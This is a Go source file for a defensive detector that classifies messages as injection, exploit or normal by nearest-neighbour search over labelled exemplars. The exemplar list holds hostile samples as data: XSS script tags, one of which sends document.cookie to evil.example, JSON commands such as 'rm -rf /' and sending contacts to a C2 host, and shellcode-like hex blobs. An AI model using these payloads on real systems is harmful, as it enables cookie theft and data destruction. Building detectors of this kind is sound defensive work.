package detect

import (
	"context"
	"fmt"
	"log"
	"sync"
	"time"

	chromem "github.com/philippgille/chromem-go"
)

// seedSimilarityFloor is the minimum cosine similarity for a seed match to
// count as a prediction. Below it the classifier has no real opinion and
// reports NORMAL at half confidence, which never clears the fusion bar.
const (
	seedSimilarityFloor = 0.65
	seedTopK            = 3
)

// seedReferenceTime pins exemplar embedding. The content projection zeroes
// the timing slots, so the value only matters for reproducible vectors.
var seedReferenceTime = time.Date(2025, 1, 1, 12, 0, 0, 0, time.UTC)

// contentSlots are the vector positions describing message content alone.
// Timing and history slots are zeroed on both sides of the similarity
// search so a message matches exemplars regardless of when or how often
// the sender transmits.
var contentSlots = [...]int{0, 1, 2, 3, 4, 9, 10, 11, 12, 13, 14}

// seedExample pairs an exemplar message with its label.
type seedExample struct {
	Text  string
	Label AttackType
}

// SeedClassifier predicts a category by nearest-neighbor search over an
// embedded exemplar corpus. The embedding is the content projection of the
// message's own feature vector, so the whole classifier runs offline with
// no model files. It backs the engine when no trained ONNX model is
// deployed.
//
// The corpus covers only structurally marked payloads: JSON command
// shapes, hostile markup, and encoded binary blobs, plus benign documents
// with the same surface structure. Plain prose is out of scope on purpose.
// Length, symbol, and entropy statistics cannot separate a phishing
// sentence from small talk, so for unstructured text the classifier
// declines to guess and the rule engine decides alone.
type SeedClassifier struct {
	extractor  *FeatureExtractor
	db         *chromem.DB
	collection *chromem.Collection
	floor      float64
	mu         sync.RWMutex
	ready      bool
}

var _ Classifier = (*SeedClassifier)(nil)

// NewSeedClassifier builds the exemplar collection and embeds every seed.
func NewSeedClassifier(extractor *FeatureExtractor) (*SeedClassifier, error) {
	if extractor == nil {
		return nil, fmt.Errorf("feature extractor is nil")
	}

	sc := &SeedClassifier{
		extractor: extractor,
		db:        chromem.NewDB(),
		floor:     seedSimilarityFloor,
	}

	collection, err := sc.db.CreateCollection("attack_seeds", nil, sc.embedText)
	if err != nil {
		return nil, fmt.Errorf("create seed collection: %w", err)
	}
	sc.collection = collection

	if err := sc.seed(context.Background()); err != nil {
		return nil, err
	}

	sc.ready = true
	return sc, nil
}

// NewSeedClassifierWithFallback returns a classifier even when seeding
// fails. The returned instance reports IsReady() == false.
func NewSeedClassifierWithFallback(extractor *FeatureExtractor) *SeedClassifier {
	sc, err := NewSeedClassifier(extractor)
	if err != nil {
		log.Printf("[WARN] seed classifier unavailable: %v (continuing with rule-based detection)", err)
		return &SeedClassifier{extractor: extractor, floor: seedSimilarityFloor, ready: false}
	}
	return sc
}

// Name identifies the classifier in decision sources and logs.
func (sc *SeedClassifier) Name() string { return "seed" }

// IsReady reports whether the exemplar collection is loaded.
func (sc *SeedClassifier) IsReady() bool {
	sc.mu.RLock()
	defer sc.mu.RUnlock()
	return sc.ready
}

// SeedCount returns the number of embedded exemplars.
func (sc *SeedClassifier) SeedCount() int {
	return len(seedExamples())
}

// SetFloor overrides the similarity floor.
func (sc *SeedClassifier) SetFloor(f float64) {
	sc.mu.Lock()
	defer sc.mu.Unlock()
	sc.floor = clamp01(f)
}

// Predict returns the label of the nearest exemplar when the message is
// structurally marked and similarity clears the floor. Unstructured text
// and sub-floor matches both come back as NORMAL at half confidence,
// leaving the verdict to the rules.
func (sc *SeedClassifier) Predict(ctx context.Context, fv FeatureVector) (Prediction, error) {
	sc.mu.RLock()
	defer sc.mu.RUnlock()

	if !sc.ready || sc.collection == nil {
		return Prediction{}, ErrUnavailable
	}
	if !structurallyMarked(fv) {
		return Prediction{Label: Normal, Confidence: 0.5}, nil
	}

	qv := contentProjection(fv)
	if isZeroVector(qv) {
		return Prediction{Label: Normal, Confidence: 0.5}, nil
	}

	n := seedTopK
	if c := sc.collection.Count(); c < n {
		n = c
	}
	results, err := sc.collection.QueryEmbedding(ctx, qv, n, nil, nil)
	if err != nil {
		return Prediction{}, fmt.Errorf("seed query: %w", err)
	}
	if len(results) == 0 {
		return Prediction{}, fmt.Errorf("seed query returned no matches")
	}

	best := results[0]
	sim := clamp01(float64(best.Similarity))
	label := AttackType(best.Metadata["label"])
	if !label.Valid() {
		label = Unknown
	}

	if label == Normal {
		return Prediction{Label: Normal, Confidence: sim}, nil
	}
	if sim < sc.floor {
		return Prediction{Label: Normal, Confidence: 0.5}, nil
	}
	return Prediction{Label: label, Confidence: sim}, nil
}

// structurallyMarked reports whether the vector carries enough payload
// structure for nearest-neighbor matching to mean anything. The bars sit
// below every exemplar's own activation so no exemplar gates itself out.
func structurallyMarked(fv FeatureVector) bool {
	return fv.JSONShape >= 0.3 ||
		fv.HTMLShape >= 0.3 ||
		fv.HexEncoding >= 0.3 ||
		fv.NonPrintable >= 0.2 ||
		fv.CommandKeyword >= 0.5 ||
		fv.CredentialKeyword >= 0.5
}

// embedText turns exemplar text into its content-projected feature vector.
// Exemplars embed with no device history, matching how the projection
// strips history from live queries.
func (sc *SeedClassifier) embedText(_ context.Context, text string) ([]float32, error) {
	norm := Normalize(text)
	if norm == "" {
		return nil, fmt.Errorf("exemplar %q normalizes to empty text", text)
	}
	msg := Message{SenderID: "seed", Content: text, Timestamp: seedReferenceTime}
	fv := sc.extractor.Extract(msg, norm, DeviceStats{})
	vec := contentProjection(fv)
	if isZeroVector(vec) {
		return nil, fmt.Errorf("exemplar %q produced a zero vector", text)
	}
	return vec, nil
}

func (sc *SeedClassifier) seed(ctx context.Context) error {
	examples := seedExamples()
	docs := make([]chromem.Document, len(examples))
	for i, ex := range examples {
		docs[i] = chromem.Document{
			ID:       fmt.Sprintf("seed_%d", i),
			Content:  ex.Text,
			Metadata: map[string]string{"label": string(ex.Label)},
		}
	}
	if err := sc.collection.AddDocuments(ctx, docs, 1); err != nil {
		return fmt.Errorf("embed seed exemplars: %w", err)
	}
	return nil
}

// contentProjection copies the content slots of a feature vector and zeroes
// the rest. Shared zero dimensions do not affect cosine similarity, so the
// vector keeps its full width.
func contentProjection(fv FeatureVector) []float32 {
	full := fv.ToFloat32()
	out := make([]float32, len(full))
	for _, i := range contentSlots {
		out[i] = full[i]
	}
	return out
}

func isZeroVector(v []float32) bool {
	for _, x := range v {
		if x != 0 {
			return false
		}
	}
	return true
}

var (
	cachedSeeds     []seedExample
	cachedSeedsOnce sync.Once
)

// seedExamples returns the exemplar corpus. Every entry activates at least
// one structural slot; the benign block holds harmless documents that share
// surface structure with the attacks, which is what makes the command and
// encoding slots discriminative instead of the raw text statistics.
func seedExamples() []seedExample {
	cachedSeedsOnce.Do(func() {
		cachedSeeds = []seedExample{
			// Injection: structured command payloads and hostile markup.
			{`{"command": "delete_files", "target": "*"}`, Injection},
			{`{"cmd": "exec", "args": ["rm", "-rf", "/"]}`, Injection},
			{`{"action": "run", "payload": "format_disk"}`, Injection},
			{`{"command": "send_contacts", "to": "c2.example"}`, Injection},
			{`{"execute": "wipe", "scope": "all"}`, Injection},
			{"<script>document.location='http://evil.example'</script>", Injection},
			{"<script>fetch('http://evil.example/'+document.cookie)</script>", Injection},
			{`<iframe src="javascript:alert(1)"></iframe>`, Injection},
			{`<img src=x onerror="alert(document.cookie)">`, Injection},

			// Exploit: encoded binary payloads and filler blobs.
			{`\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41`, Exploit},
			{`\x90\x90\x90\x90\x31\xc0\x50\x68\x2f\x2f`, Exploit},
			{"%41%42%43%44%45%46%47%48%49%4a%4b%4c", Exploit},
			{"0x4141414141414141deadbeef41414141", Exploit},
			{"MZ\x00\x01\x02\x03\x04\x05\x06\x07\x08", Exploit},

			// Benign structural decoys: harmless payloads with the same
			// surface shapes as the attack exemplars.
			{`{"lat": 52.37, "lon": 4.89}`, Normal},
			{`{"theme": "dark", "fontSize": 14}`, Normal},
			{`{"status": "on my way", "eta": 10}`, Normal},
			{`{"song": "example", "artist": "someone", "rating": 5}`, Normal},
			{"<b>Happy birthday!</b> Hope you have a <i>great</i> day", Normal},
			{`Check this out: <a href="http://example.com/recipes">recipes</a>`, Normal},
			{"The error code was 0x80070057, any idea what it means?", Normal},
			{"My board dumps 0xdeadbeef on boot, seen that before?", Normal},
		}
	})
	return cachedSeeds
}
